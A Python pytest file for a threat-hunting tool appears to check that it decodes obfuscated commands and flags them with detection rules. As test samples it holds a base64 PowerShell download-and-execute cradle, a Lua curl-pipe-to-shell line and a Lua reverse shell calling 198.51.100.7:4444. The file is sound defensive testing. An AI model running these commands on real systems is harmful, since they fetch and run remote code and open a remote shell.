"""Decoded text is matched in a second pass, and findings carry the analysis of what they stand on."""

# ruff: noqa: E501 - samples are not broken in two

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from perilune import pipeline
from perilune.analysis import analyze
from perilune.decoding import ACTION, SHOWN, Decoder, brief
from perilune.model.rules import Level
from tests.build import process, table

HIDDEN = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/zebra')".encode("utf-16-le")
).decode()
COMMAND = f"powershell.exe -nop -e {HIDDEN}"


def test_a_hidden_text_becomes_a_row_with_its_process_and_place() -> None:
    made = Decoder().rows_of(
        table("DeviceProcessEvents", process(7, 1, "C:\\Windows\\powershell.exe", command=COMMAND))
    )
    assert made is not None
    assert made.name == "XScriptEvents"
    row = made.row(0)
    assert row["ActionType"] == ACTION
    assert "zebra" in str(row["XScriptText"])
    assert (row["XScriptLanguage"], row["InitiatingProcessId"], row["XSourceRecord"]) == ("powershell", 7, 1)
    assert json.loads(str(row["AdditionalFields"])) == {"Decoding": "base64", "Layer": 1}


def test_plain_commands_make_no_rows() -> None:
    plain = [process(n, 1, "/bin/x", command=command) for n, command in enumerate(("ls -l", "bash -c 'id'", "git log"))]
    assert Decoder().rows_of(table("DeviceProcessEvents", *plain)) is None


def test_a_decoded_row_is_not_decoded_again() -> None:
    decoder = Decoder()
    first = decoder.rows_of(table("DeviceProcessEvents", process(7, 1, "C:\\powershell.exe", command=COMMAND)))
    assert first is not None
    assert decoder.rows_of(first) is None


def test_the_second_pass_finds_what_only_the_decoded_text_says(tmp_path: Path) -> None:
    rule = tmp_path / "rule.yml"
    rule.write_text(
        "title: Zebra\nid: 11111111-2222-3333-4444-555555555555\nlevel: high\nlogsource: {category: ps_script, product: windows}\n"
        "detection: {s: {ScriptBlockText|contains: zebra}, condition: s}\n"
    )
    log = tmp_path / "events.jsonl"
    log.write_text(
        json.dumps(
            {"Timestamp": "2026-11-20T09:00:00Z", "DeviceName": "pc-1", "ActionType": "ProcessCreated", "FileName": "powershell.exe",
             "FolderPath": "C:\\Windows\\powershell.exe", "ProcessId": 7, "ProcessCommandLine": COMMAND, "InitiatingProcessId": 1}
        )
        + "\n"
    )  # fmt: skip
    found = pipeline.hunt([log], rules=[rule], pack=False)
    try:
        assert [one.rule_title for one in found.findings] == ["Zebra"]
        finding = found.findings[0]
        assert finding.analysis is not None
        assert finding.analysis.score >= 30
        assert finding.row["InitiatingProcessCommandLine"] == COMMAND
    finally:
        found.spool.close()


def test_a_kept_analysis_says_where_it_was_cut() -> None:
    kept = brief(analyze("echo " + "a" * 10_000))
    assert len(kept.text) == SHOWN
    assert "of 10,005 characters" in kept.layers[0].note


COMPILED = Path(__file__).parent / "analysis" / "lua" / "corpus" / "compiled" / "cron_dropper.luac"


def test_compiled_lua_shows_its_calls_to_the_rules(tmp_path: Path) -> None:
    (tmp_path / "readme.txt").write_bytes(COMPILED.read_bytes())
    rule = tmp_path / "rule.yml"
    rule.write_text(
        "title: Lua fetches and runs\nid: 6b3f0f52-30d7-4f6f-9f2e-0d5a1d5f9a11\nstatus: test\nlevel: high\n"
        "logsource: {category: script}\ndetection:\n  sel:\n    ScriptBlockText|contains: 'os.execute(\"curl'\n  condition: sel\n"
    )
    found = pipeline.hunt([tmp_path / "readme.txt"], rules=[rule], pack=False)
    found.spool.close()
    (finding,) = found.findings
    assert finding.analysis is not None
    assert {"process", "shell-download"} <= {one.id for one in finding.analysis.capabilities}


def test_lua_that_hides_a_name_shows_it_to_the_rules() -> None:
    made = Decoder().rows_of(
        table(
            "XScriptEvents",
            {
                "XScriptText": "local x = os; x['exe' .. 'cute']('id')",
                "XScriptLanguage": "lua",
                "ActionType": "ScriptFile",
            },
        )
    )
    assert made is not None
    assert 'os.execute("id")' in str(made.row(0)["XScriptText"])


def test_a_lua_process_carries_what_its_script_does() -> None:
    script = {
        "XScriptText": "os.execute('curl http://203.0.113.9/a | sh')", "XScriptLanguage": "lua", "ActionType": "ScriptFile",
        "FileName": "Update.lua", "FolderPath": "/evidence/tmp/Update.lua",
    }  # fmt: skip
    decoder = Decoder()
    decoder.rows_of(table("XScriptEvents", script))
    found = decoder.analysis_of("DeviceProcessEvents", {"ProcessCommandLine": "lua5.1 /tmp/update.lua now"})
    assert found is not None
    assert "shell-download" in {one.id for one in found.capabilities}
    (layer,) = [one for one in found.layers if one.kind == "script-file"]
    assert found.text[layer.start : layer.end] == "/tmp/update.lua"
    assert layer.note == "read from /evidence/tmp/Update.lua"
    assert any(one.value == "http://203.0.113.9/a" and found.layers[one.layer].text for one in found.indicators)
    other = decoder.analysis_of("DeviceProcessEvents", {"ProcessCommandLine": "cat /tmp/update.lua"})
    assert other is not None and not [one for one in other.layers if one.kind == "script-file"]


@pytest.mark.parametrize("compiled", [False, True])
def test_lua_in_a_zip_is_judged_by_what_it_does(tmp_path: Path, compiled: bool) -> None:
    """A reverse shell in plain calls, which no decoding is needed for, as source and as stripped bytecode."""
    code = 'local c = require("socket").tcp() c:connect("198.51.100.7", 4444)\n'
    code += 'while true do local p = io.popen(c:receive()) c:send(p:read("*a")) end\n'
    source, name = tmp_path / "a.lua", "readme.txt" if compiled else "a.lua"
    source.write_text(code, encoding="utf-8")
    if compiled:
        luac = shutil.which("luac5.1") or pytest.skip("luac5.1 is not installed")
        subprocess.run([luac, "-s", "-o", tmp_path / name, source], check=True)
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.write(tmp_path / name, name)
    (case,) = pipeline.hunt([tmp_path / "a.zip"]).cases
    assert case.level >= Level.HIGH and "T1059.011" in case.techniques
